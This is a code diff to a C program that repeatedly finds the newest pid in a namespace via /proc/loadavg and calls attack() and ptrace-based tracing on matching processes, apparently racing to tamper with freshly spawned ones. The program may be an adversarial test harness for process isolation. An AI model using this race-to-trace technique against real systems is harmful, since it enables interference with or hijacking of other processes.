@@ -146,22 +146,30 @@ static void attack(int pid, int trace) {
   if (trace) try_to_trace(pid);
 }
 
+// The pid that this namespace gave away last, from proc(5) /proc/loadavg.
+static int newest_pid(void) {
+  static int loadavg = -1;
+  char text[128];
+  if (loadavg < 0) loadavg = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
+  const ssize_t got = pread(loadavg, text, sizeof(text) - 1, 0);
+  if (got <= 0) return 1;
+  text[got] = '\0';
+  return atoi(strrchr(text, ' ') + 1);
+}
+
 int main(int argc, char** argv) {
   if (argc < 3) return 2;
   wanted = argv[1];
   output = fopen(argv[2], "w");
   if (output == NULL) return 1;
   const int own = getpid();
-  int newest = own;
   say("ready");
   for (unsigned round = 0;; ++round) {
-    if (round % 16384 == 0) overwrite_held();
-    // Pids of a namespace come one after the other.
-    for (int pid = newest > 8 ? newest - 8 : 2; pid <= newest + 16; ++pid) {
-      if (pid == own) continue;
-      const int ours = is_ours(pid);
-      if (ours >= 0 && pid > newest) newest = pid;
-      if (ours != 1) continue;
+    if (round % 1024 == 0) overwrite_held();
+    // The next one can be there before it is known as the newest.
+    const int newest = newest_pid();
+    for (int pid = newest > 3 ? newest - 3 : 2; pid <= newest + 1; ++pid) {
+      if (pid == own || is_ours(pid) != 1) continue;
       say("seen");
       // Tracing stops it, and the rest wants it on its way; so it is tried every other time.
       attack(pid, round % 2 == 1);
